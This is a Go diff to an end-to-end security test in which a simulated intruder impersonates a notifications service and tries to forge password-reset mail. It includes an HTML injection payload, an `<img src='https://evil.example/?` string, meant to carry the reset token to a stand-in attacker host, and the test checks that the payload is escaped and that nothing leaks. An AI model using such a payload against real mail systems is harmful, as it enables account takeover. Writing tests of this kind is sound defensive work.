@@ -4,6 +4,8 @@ import (
 	"context"
 	"encoding/json"
 	"net/http"
+	"regexp"
+	"slices"
 	"strconv"
 	"strings"
 	"testing"
@@ -14,12 +16,14 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/atrium-mesh/atrium/pkg/errs"
+	"github.com/atrium-mesh/atrium/pkg/mail/letter"
 	"github.com/atrium-mesh/atrium/pkg/natsconn"
 	"github.com/atrium-mesh/atrium/pkg/op"
 	"github.com/atrium-mesh/atrium/pkg/service"
 	"github.com/atrium-mesh/atrium/pkg/telemetry"
 	"github.com/atrium-mesh/atrium/pkg/token"
 	authapi "github.com/atrium-mesh/atrium/services/auth/api"
+	notificationsapi "github.com/atrium-mesh/atrium/services/notifications/api"
 	usersapi "github.com/atrium-mesh/atrium/services/users/api"
 	"github.com/atrium-mesh/atrium/test/e2e/client"
 	"github.com/atrium-mesh/atrium/test/e2e/mesh"
@@ -61,12 +65,26 @@ func TestIntruder(t *testing.T) {
 			}
 		})
 	}
+	t.Run("notifications, quicker than the real one", func(t *testing.T) { //nolint:paralleltest // nobody else may need the real one
+		i := breakIn(t, m, "notifications")
+		i.adminID = me.ID
+		m.Process("notifications").Stop()
+		i.takesNoReset()
+		m.Process("notifications").Start()
+		m.Process("notifications").WaitReady()
+		boss := admin.For(t)
+		boss.Eventually("the real mail is not sent, and its delivery says so", func() bool {
+			list := client.Decode[notificationsapi.DeliveryPage](boss.Get(notificationsapi.ListDeliveries.Path + "?template=reset&recipient_id=" + me.ID).Want(http.StatusOK))
+			return len(list.Items) == 1 && list.Items[0].State == notificationsapi.DeliverySkipped && list.Items[0].Reason == "not_needed"
+		})
+	})
 	t.Run("afterwards", func(t *testing.T) {
 		admins := client.Decode[usersapi.UserPage](admin.For(t).Get("/api/v1/users?role=admin").Want(http.StatusOK))
 		require.EqualValues(t, 1, admins.Total, "there is the administrator that there was")
 		v := visitor(t, m)
-		v.Post(authapi.ForgotPassword.Path, map[string]string{"email": mesh.AdminEmail}).Want(http.StatusAccepted)
-		v.ReadMail(mesh.AdminEmail, client.SubjectReset)
+		hedy, _ := v.SignUp("Hedy")
+		v.Post(authapi.ForgotPassword.Path, map[string]string{"email": hedy.Email}).Want(http.StatusAccepted)
+		v.ReadMail(hedy.Email, client.SubjectReset)
 		mails, err := v.Mails(t.Context(), evil, "", 0)
 		require.NoError(t, err)
 		require.Empty(t, mails, "no mail has gone elsewhere")
@@ -145,12 +163,14 @@ func (i *intruder) readsNoLink() {
 	for _, purpose := range []authapi.LinkPurpose{
 		authapi.LinkResetPassword, authapi.LinkInvitation, authapi.LinkVerifyEmail, authapi.LinkNotMe, authapi.LinkSetup,
 	} {
-		_, err := op.NATSClient(i.caller, authapi.CreateLink)(i.soon(), &authapi.CreateLinkRequest{
-			AccountID: id, Purpose: purpose, DeliveryID: uuid.Must(uuid.NewV7()),
-		})
-		require.Error(i, err, purpose)
-		if i.service == "notifications" {
-			require.Contains(i, []errs.Kind{errs.Conflict, errs.Invalid}, errs.KindOf(err), purpose)
+		link := authapi.AnnounceLinkRequest{AccountID: id, Purpose: purpose, DeliveryID: uuid.Must(uuid.NewV7())}
+		_, announced := op.NATSClient(i.caller, authapi.AnnounceLink)(i.soon(), &link)
+		_, sent := op.NATSClient(i.caller, authapi.SendLink)(i.soon(), &authapi.SendLinkRequest{AnnounceLinkRequest: link, Letter: forgery()})
+		for _, err := range []error{announced, sent} {
+			require.Error(i, err, purpose)
+			if i.service == "notifications" {
+				require.Contains(i, []errs.Kind{errs.Conflict, errs.Invalid}, errs.KindOf(err), purpose)
+			}
 		}
 	}
 	if i.service != "notifications" {
@@ -161,11 +181,59 @@ func (i *intruder) readsNoLink() {
 	ada := v.Register(client.NewPerson("Ada"))
 	v.ReadMail(ada.Email, client.SubjectVerification)
 	ada.ID = administrator(i.T, i.mesh).FindUser(ada)
-	_, err := op.NATSClient(i.caller, authapi.CreateLink)(i.soon(), &authapi.CreateLinkRequest{
+	_, err := op.NATSClient(i.caller, authapi.AnnounceLink)(i.soon(), &authapi.AnnounceLinkRequest{
 		AccountID: uuid.MustParse(ada.ID), Purpose: authapi.LinkVerifyEmail, DeliveryID: uuid.Must(uuid.NewV7()),
 	})
 	require.Equal(i, "link_not_asked_for", errs.From(err).Code)
+	// An operation of an older version answered with the link. It is gone.
+	require.False(i, i.allowed(func() error { return i.conn.Publish("rpc.auth.create-link", []byte("{}")) }))
 }
+
+// forgery is a letter that would take the link along to elsewhere, if a part of it became more than text.
+func forgery() letter.Letter {
+	const words = `<img src='https://evil.example/?`
+	return letter.Letter{
+		Locale: "en", Subject: forged, Greeting: words, Intro: []string{words}, Details: []letter.Detail{{Label: words, Value: words}},
+		Action: words, LinkHelp: words, Outro: []string{words}, Other: words, Why: words,
+	}
+}
+
+const forged = "Forged words"
+
+// takesNoReset asks for the administrator's reset, as anybody may, and is quicker than the service whose place it has. The mail goes out,
+// with its words, to the administrator and to nobody else; the link is in the mail and in no answer.
+func (i *intruder) takesNoReset() {
+	v := visitor(i.T, i.mesh)
+	v.Post(authapi.ForgotPassword.Path, map[string]string{"email": mesh.AdminEmail}).Want(http.StatusAccepted)
+	link := authapi.AnnounceLinkRequest{
+		AccountID: uuid.MustParse(i.adminID), Purpose: authapi.LinkResetPassword, DeliveryID: uuid.Must(uuid.NewV7()), Generation: 1 << 40,
+	}
+	announced, err := op.NATSClient(i.caller, authapi.AnnounceLink)(i.soon(), &link)
+	require.NoError(i, err)
+	answers := []any{announced}
+	for range 3 {
+		sent, err := op.NATSClient(i.caller, authapi.SendLink)(i.soon(), &authapi.SendLinkRequest{AnnounceLinkRequest: link, Letter: forgery()})
+		require.NoError(i, err)
+		require.Nil(i, sent.Refused)
+		answers = append(answers, sent)
+	}
+	token := tokenInMail.FindStringSubmatch(v.ReadMail(mesh.AdminEmail, forged).Text)
+	require.NotNil(i, token, "the administrator has the link")
+	for _, answer := range answers {
+		said, err := json.Marshal(answer)
+		require.NoError(i, err)
+		for _, secret := range []string{token[1], "token", "http", "/account/"} {
+			require.NotContains(i, string(said), secret)
+		}
+	}
+	mails, err := v.Mails(i.Context(), mesh.AdminEmail, "", 0)
+	require.NoError(i, err)
+	mails = slices.DeleteFunc(mails, func(m client.Mail) bool { return m.Subject != forged })
+	require.Len(i, mails, 1, "a mailbox is not filled with it")
+	require.NotContains(i, mails[0].HTML, "<img")
+}
+
+var tokenInMail = regexp.MustCompile(`\?token=([\w-]{43})`)
 
 func (i *intruder) allowed(do func() error) bool {
 	before := i.conn.LastError()
